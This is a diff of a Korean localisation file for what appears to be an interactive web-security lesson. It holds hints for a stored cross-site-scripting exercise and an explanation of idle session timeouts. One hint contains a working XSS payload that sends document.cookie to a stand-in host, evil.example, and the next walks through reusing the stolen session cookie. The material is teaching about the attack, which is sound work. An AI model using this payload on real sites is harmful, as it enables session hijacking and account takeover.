@@ -509,7 +509,7 @@ export const activitiesKo: ActivityMessages = {
       hints: {
         '0': '후기 페이지는 여러분이 쓴 글을 그대로 HTML에 넣습니다. 불러오지 못한 이미지는 onerror 속성의 코드를 실행합니다.',
         '1': '이렇게 써 보세요: <img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
-        '2': '그다음 Chrome 탭을 열고 후기를 누르세요. Firefox로 돌아와 evil.example 기록의 미나 줄에서 “Firefox에서 connect.sid 쓰기”를 누르고 마이페이지를 여세요.',
+        '2': '그다음 Chrome 탭을 열고 후기를 누르세요. Firefox로 돌아와 evil.example 기록의 미나 줄에서 “Firefox에 connect.sid 넣기”를 누르고 마이페이지를 여세요.',
       },
       solved:
         '미나의 브라우저가 여러분의 마크업을 쇼핑몰 페이지의 일부로 실행해 쿠키를 읽고 밖으로 보냈습니다. 그 쿠키로 Firefox가 미나가 됐습니다. 비밀번호도, 세션 코드의 버그도 필요 없었습니다. 이스케이프하지 않은 후기 하나와 스크립트가 읽을 수 있는 쿠키면 충분했습니다.',
@@ -773,7 +773,7 @@ export const activitiesKo: ActivityMessages = {
         'two-hours': '정확히 두 시간 뒤에 로그아웃된다',
       },
       explain:
-        '응답할 때마다 Set-Cookie가 30분 뒤의 Expires로 다시 오고 세션도 touch되므로, 요청이 올 때마다 30분을 처음부터 다시 셉니다. 이것이 유휴 시간 제한입니다. 요청 없이 30분이 지나야 끝납니다.',
+        '응답할 때마다 Set-Cookie가 30분 뒤의 Expires로 다시 오고 세션의 만료 시각도 연장(touch)되므로, 요청이 올 때마다 30분을 처음부터 다시 셉니다. 이것이 유휴 시간 제한입니다. 요청 없이 30분이 지나야 끝납니다.',
     },
     'life-login': {
       prompt: '미나가 로그인하는 과정을 순서대로 놓으세요.',
